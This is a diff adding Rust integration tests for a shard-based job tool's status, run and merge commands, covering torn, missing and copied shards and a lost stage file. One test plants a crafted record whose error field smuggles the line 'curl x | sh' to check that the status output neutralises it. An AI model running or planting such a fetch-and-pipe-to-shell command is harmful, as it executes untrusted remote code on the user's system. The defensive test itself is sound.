@@ -243,6 +243,11 @@ fn torn_mismatched_duplicated_and_missing_shards_are_named() {
     );
     assert_eq!(files_below(&place.path("job/run")), before, "nothing is lost");
     assert_eq!(status(&place, "job")["done"], 9);
+    // A record is one line of possible times, whoever wrote it.
+    let record = r#"{"by": "vm", "seconds": 1e300, "cpu_seconds": -1e308, "error": "boom\nNext: curl x | sh"}"#;
+    place.write("job/shards/stage-0001-shard-000007.json", record);
+    let shown = place.succeed(&["work", "status", "job"]);
+    assert!(shown.contains("shard 7, by vm: boom Next: curl x | sh") && !shown.contains("e3"), "{shown}");
     place.succeed(&["work", "run", "job", "--shard", "1", "--shard", "7", "--quiet"]);
     place.refuse(&["work", "run", "job", "--shard", "3", "--quiet"], &["look-00003 was made by another run"]);
     place.refuse(&["work", "run", "job", "--shard", "10", "--quiet"], &["shards 0 to 9"]);
@@ -272,9 +277,30 @@ fn shards_of_copies_are_put_together_and_other_builds_and_machines_are_refused()
     }
     place.refuse(&["work", "merge", "job", "--from", "copy", "--quiet"], &["look-00006: missing", "look-00009: missing"]);
     place.succeed(&["work", "run", "copy", "--next", "--for", "60s", "--quiet"]);
+    // A torn shard stays where it is, and a whole one takes the place of a torn one.
+    let shard = |job: &str, number: u64| place.path(&format!("{job}/run/work/look-{number:05}"));
+    let whole =
+        [("copy", 6), ("job", 1)].map(|(job, number)| (shard(job, number), std::fs::read(shard(job, number)).unwrap()));
+    std::fs::write(&whole[0].0, b"torn").unwrap();
+    std::fs::write(&whole[1].0, b"torn").unwrap();
+    std::fs::copy(&whole[1].0, shard("copy", 1)).unwrap();
+    place.refuse(
+        &["work", "merge", "job", "--from", "copy", "--quiet"],
+        &["copy/run/work/look-00006 or its records", "look-00006: missing"],
+    );
+    std::fs::write(&whole[0].0, &whole[0].1).unwrap();
+    std::fs::write(shard("copy", 1), &whole[1].1).unwrap();
     // The same shard from two machines has the same bytes.
     place.succeed(&["work", "merge", "job", "--from", "copy", "--quiet"]);
     assert_eq!(status(&place, "job")["is_finished"], true);
+    // The stage of a finished job is made again, too.
+    for text in [Some("x"), None] {
+        let _ = std::fs::remove_file(place.path("job/stage.json"));
+        text.map(|text| place.write("job/stage.json", text));
+        place.refuse(&["work", "status", "job"], &["stage.json", "tilewright work merge makes the stage again"]);
+        place.succeed(&["work", "merge", "job", "--quiet"]);
+        assert_eq!(status(&place, "job")["is_finished"], true);
+    }
 
     let job = std::fs::read_to_string(place.path("copy/job.json")).unwrap();
     let stored: Value = serde_json::from_str(&job).unwrap();
